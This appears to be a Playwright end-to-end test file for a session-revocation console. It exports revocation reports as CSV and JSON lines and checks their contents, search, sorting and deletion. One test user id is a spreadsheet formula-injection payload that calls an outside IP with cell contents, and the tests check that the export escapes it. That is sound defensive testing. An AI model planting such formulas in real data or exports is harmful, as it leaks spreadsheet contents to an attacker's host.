import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { launchConsole } from '../../hosts/launch-console.ts';
import { changeFile } from '../../unit/support/store/faults/damage-file.ts';
import { expectNoViolations } from '../support/axe.ts';
import { confirming, connectTo, type Operator, operate } from '../support/console.ts';
import { ownCoreUnderTest } from '../support/own-core.ts';
import { rowsInSight } from '../support/rows-in-sight.ts';
import { testUsersOf } from '../support/users.ts';

// Later specs look at the report that the first one made.
test.describe.configure({ mode: 'serial' });

const core = ownCoreUnderTest();
const { alive } = testUsersOf(core);

/** Of an application that keeps sessions under ids of its own: a spreadsheet would run it. */
const userId = '=HYPERLINK("http://203.0.113.1/"&A1)';
const sessions = 40;

let folder: string;
let operator: Operator;

/** The cells of a CSV text whose cells hold no line ends. */
function cellsOf(csv: string): string[][] {
  const [first, ...lines] = csv.trimEnd().split('\r\n');
  expect(first?.charCodeAt(0)).toBe(0xfeff);
  return [first?.slice(1) ?? '', ...lines].map((line) =>
    [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map(([, quoted, plain]) =>
      quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'),
    ),
  );
}

/** Exports what the list of the report shows, and gives the file's text. */
async function exported(format: 'CSV …' | 'JSON lines …', name: string): Promise<string> {
  const { launched, page } = operator;
  const file = join(folder, name);
  await launched.saveNextTo(file);
  const start = page.getByRole('button', { name: 'Export these sessions' });
  const place = await start.boundingBox();
  await start.click();
  await page.getByRole('menuitem', { name: format }).press('Enter');
  const told = page.getByRole('main').getByText(new RegExp(`^Saved .* to .*${name}$`));
  await expect(told).toBeVisible();
  // Another click in the same place is on the same button.
  expect(await start.boundingBox()).toEqual(place);
  await expect(start).toBeFocused();
  return readFile(file, 'utf8');
}

test.beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'curfew-report-'));
  operator = operate(await launchConsole({ userData: join(folder, 'user-data') }));
  await connectTo(operator, { name: 'kept', address: core.uri, key: core.key });
});
test.afterAll(async () => {
  await operator.launched.close();
  expect(operator.launched.problems).toEqual({ cspViolations: [], pageErrors: [], consoleErrors: [] });
  await rm(folder, { recursive: true, force: true });
});

test('a report is narrowed to a state and exported; the file says what the core holds, and runs nothing', async () => {
  const { page, dialog } = operator;
  const handles = core.sandbox.seedSessions({ userId, count: sessions });
  await operator.goto(`/users/${encodeURIComponent(userId)}`);
  await page.getByRole('button', { name: `End ${sessions} sessions …`, exact: true }).click();
  await expect(dialog.getByRole('button', { name: `End ${sessions} sessions` })).toBeVisible();
  const before = handles.slice(0, 7);
  await core.client.post('/recipe/session/remove', { sessionHandles: before });
  await operator.confirm(`End ${sessions} sessions`);
  await dialog.getByRole('link', { name: 'Open the report' }).click();
  await expect(dialog).toBeHidden();
  expect(await alive(userId)).toEqual([]);

  const table = operator.grid('Sessions of this revocation');
  await expect(table).toHaveAttribute('aria-rowcount', String(sessions + 1));
  await page.setViewportSize({ width: 1_024, height: 700 });
  const all = cellsOf(await exported('CSV …', 'all.csv'));
  const [header = [], ...rows] = all;
  const column = (name: string) => rows.map((row) => row[header.indexOf(name)] ?? '');
  expect(column('handle').sort()).toEqual([...handles].sort());
  expect(column('state').filter((state) => state === 'already-gone')).toHaveLength(before.length);
  expect(column('state').filter((state) => state === 'revoked')).toHaveLength(sessions - before.length);
  expect(new Set(column('user'))).toEqual(new Set([`'${userId}`]));
  expect(all.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

  await page.getByText(`${before.length} already gone`, { exact: true }).last().click();
  await expect(table).toHaveAttribute('aria-rowcount', String(before.length + 1));
  const text = await exported('JSON lines …', 'gone.jsonl');
  const lines = text
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as Record<string, unknown>);
  expect(lines.map(({ handle }) => handle).sort()).toEqual([...before].sort());
  for (const line of lines)
    expect(line).toMatchObject({ state: 'already-gone', user: userId, tenant: 'public' });

  const savedBefore = await operator.launched.savedTo();
  await operator.launched.saveNextTo(null);
  const start = page.getByRole('button', { name: 'Export these sessions' });
  await start.click();
  await page.getByRole('menuitem', { name: 'CSV …' }).click();
  // From the click on it waits until the export has ended.
  await expect(start).toBeEnabled();
  await expect(page.getByRole('main').getByText(/^Saved/)).toHaveCount(0);
  expect(await operator.launched.savedTo()).toEqual(savedBefore);
});

test('after a restart a report is in the list of revocations, with its sessions', async () => {
  await operator.launched.close();
  operator = operate(await launchConsole({ userData: join(folder, 'user-data') }));
  const { page } = operator;
  await expect(operator.topBar).toContainText('kept');
  await page.getByRole('link', { name: 'Revocations', exact: true }).click();
  const past = operator.grid('Past revocations');
  const row = past.locator('tbody').getByRole('row');
  await expect(row).toHaveCount(1);
  await expect(row).toContainText('spec');
  await expect(row).toContainText('complete');
  await row.getByRole('link', { name: `${sessions} of ${sessions} ended, 7 of them already gone` }).click();
  await expect(page.getByRole('heading', { name: `Revocation of ${sessions} sessions` })).toBeVisible();
  await expect(page.getByRole('main')).toContainText('7 already gone');
  await expect(operator.grid('Sessions of this revocation')).toHaveAttribute(
    'aria-rowcount',
    String(sessions + 1),
  );
});

test('targets are searched and sorted by main, in every column, and the order of the plan comes back', async () => {
  const { page } = operator;
  const table = operator.grid('Sessions of this revocation');
  await table.getByRole('button', { name: 'State' }).click();
  await expect(table.getByRole('columnheader', { name: 'State' })).toHaveAttribute('aria-sort', 'ascending');
  await expect(table.locator('tbody').getByRole('row').first()).toContainText('revoked');
  await table.getByRole('button', { name: 'State' }).click();
  await expect(table.getByRole('columnheader', { name: 'State' })).toHaveAttribute('aria-sort', 'descending');
  await expect(table.locator('tbody').getByRole('row').first()).toContainText('already gone');

  const search = page.getByRole('textbox', { name: 'Search these sessions' });
  await search.fill('nobody wrote this');
  await expect(page.getByText('No session of this revocation matches')).toBeVisible();
  await search.fill('hyperlink');
  await expect(table).toHaveAttribute('aria-rowcount', String(sessions + 1));
  await page.getByRole('button', { name: 'Clear the search' }).click();
  await page.getByRole('button', { name: 'Order of the plan' }).click();
  await expect(table.getByRole('columnheader', { name: 'State' })).toHaveAttribute('aria-sort', 'none');
});

test('the sessions of a report have room for 12 rows in a small window', async () => {
  const { page } = operator;
  await page.setViewportSize({ width: 1_024, height: 700 });
  const table = operator.grid('Sessions of this revocation');
  await expect.poll(() => rowsInSight(table)).toBeGreaterThanOrEqual(12);
  await expect(page.getByText(`${sessions} of ${sessions} sessions ended`)).toBeInViewport({ ratio: 1 });
  await expect(page.getByText(/^Access tokens may be accepted until/)).toBeInViewport({ ratio: 1 });
  await page.setViewportSize({ width: 1_440, height: 900 });
});

test('past revocations are searched, sorted and deleted', async () => {
  const { page, dialog } = operator;
  for (const [name, count] of [
    ['history-one', 1],
    ['history-two', 2],
  ] as const) {
    core.sandbox.seedSessions({ userId: name, count });
    await operator.goto(`/users/${name}`);
    await page.getByRole('button', { name: /^End \d+ sessions? …$/ }).click();
    await operator.confirm(count === 1 ? 'End 1 session' : `End ${count} sessions`);
    await expect(dialog).toContainText(`${count} of ${count} session`);
    await dialog.getByRole('button', { name: 'Close' }).click();
    await expect(dialog).toBeHidden();
  }
  await operator.goto('/revocations');
  const past = operator.grid('Past revocations');
  const rows = past.locator('tbody').getByRole('row');
  await expect(past).toHaveAttribute('aria-rowcount', '4');
  await past.getByRole('button', { name: 'Result' }).click();
  await expect(rows.first()).toContainText(`${sessions} of ${sessions} ended`);
  await past.getByRole('button', { name: 'Result' }).click();
  await expect(rows.first()).toContainText('1 of 1 ended');

  const search = page.getByRole('textbox', { name: 'Search past revocations' });
  await search.fill('history-two');
  await expect(past).toHaveAttribute('aria-rowcount', '2');
  await expect(rows.first()).toContainText('2 of 2 ended');
  await search.fill('nobody wrote this');
  await expect(page.getByText('No past revocation matches')).toBeVisible();
  await search.fill('history-two');
  await expect(past).toHaveAttribute('aria-rowcount', '2');

  const remove = rows.first().getByRole('button', { name: /^Delete the revocation/ });
  await remove.click();
  // The operator says no: the report is still there.
  await expect
    .poll(async () => (await operator.launched.questions()).at(-1)?.message)
    .toContain('Delete the report of the revocation “spec”');
  await expect(past).toHaveAttribute('aria-rowcount', '2');
  // By a key at once after the answer: it is asked again.
  const asked = async () => (await operator.launched.questions()).length;
  const before = await asked();
  for (const times of [1, 2]) {
    // While main asks, the button does nothing.
    await expect(remove).toBeEnabled();
    await page.keyboard.press('Enter');
    await expect.poll(asked).toBe(before + times);
  }
  await expect(remove).toBeEnabled();
  await confirming(operator, () => remove.click(), page.getByText('No past revocation matches'));
  await expect(page.getByRole('region', { name: 'Ended' })).toBeFocused();
  await page.getByRole('button', { name: 'Clear the search' }).click();
  await expect(past).toHaveAttribute('aria-rowcount', '3');
  const fewer = past.and(page.locator('[aria-rowcount="2"]'));
  await confirming(operator, () => remove.press('Enter'), fewer);
  await expect(rows.first()).toBeFocused();
});

test('a report stays reachable after its connection was removed, without what needs the core', async () => {
  const { page } = operator;
  await operator.goto('/connections');
  const connection = page
    .getByRole('list', { name: 'Connections' })
    .getByRole('listitem')
    .filter({ hasText: 'kept' });
  await connection.getByRole('button').first().click();
  await page.getByRole('button', { name: 'Remove', exact: true }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Remove kept' }).click();
  await expect(connection).toBeHidden();
  await expect(operator.topBar).toContainText('Sandbox');

  await operator.goto('/revocations');
  await page.getByRole('combobox', { name: 'Connection' }).click();
  await page.getByRole('option', { name: 'On removed connections' }).click();
  const rows = operator.grid('Past revocations').locator('tbody').getByRole('row');
  await rows.getByRole('link', { name: `${sessions} of ${sessions} ended, 7 of them already gone` }).click();
  const content = page.getByRole('main');
  await expect(content).toContainText('The connection of this revocation was removed.');
  await expect(content).toContainText('7 already gone');
  await expect(operator.grid('Sessions of this revocation')).toHaveAttribute(
    'aria-rowcount',
    String(sessions + 1),
  );
  await expect(content.getByRole('link', { name: userId })).toHaveCount(0);
  // The connection in use would say of these sessions that they are not active.
  const first = operator.grid('Sessions of this revocation').locator('tbody').getByRole('row').first();
  await first.click({ button: 'right' });
  await expect(page.getByRole('menuitem', { name: /^Copy the session handle/ })).toBeVisible();
  await expect(page.getByRole('menuitem', { name: /^Open/ })).toHaveCount(0);
  await page.keyboard.press('Escape');
  await first.press('Enter');
  await expect(page.getByRole('heading', { name: `Revocation of ${sessions} sessions` })).toBeVisible();
  await expect(content.getByRole('button', { name: /^(Watch for|Verify again|End the)/ })).toHaveCount(0);
  await exported('CSV …', 'removed.csv');
});

test('a report with damaged rows says how many, and is not green', async () => {
  await operator.launched.close();
  const files = await readdir(folder, { recursive: true });
  const file = files.find((name) => name.endsWith('small.db')) ?? '';
  const ofReport = `SELECT rev FROM target GROUP BY rev HAVING count(*) = ${sessions}`;
  const rows = `SELECT id FROM target WHERE rev = (${ofReport}) ORDER BY id LIMIT 3`;
  changeFile(join(folder, file), `UPDATE target SET created = 7 WHERE id IN (${rows})`);
  operator = operate(await launchConsole({ userData: join(folder, 'user-data') }));
  const { page } = operator;
  await operator.goto('/revocations');
  await page.getByRole('combobox', { name: 'Connection' }).click();
  await page.getByRole('option', { name: 'On removed connections' }).click();
  await operator
    .grid('Past revocations')
    .locator('tbody')
    .getByRole('row')
    .getByRole('link', { name: `${sessions} of ${sessions} ended, 7 of them already gone` })
    .click();
  const content = page.getByRole('main');
  await expect(content).toContainText(
    `Damaged report: ${sessions} of ${sessions} sessions were counted as ended`,
  );
  await expect(content).toContainText('3 rows of this report are damaged on disk. Nobody knows');
  await expect(content).toContainText('not complete');
  await expectNoViolations(operator);
});
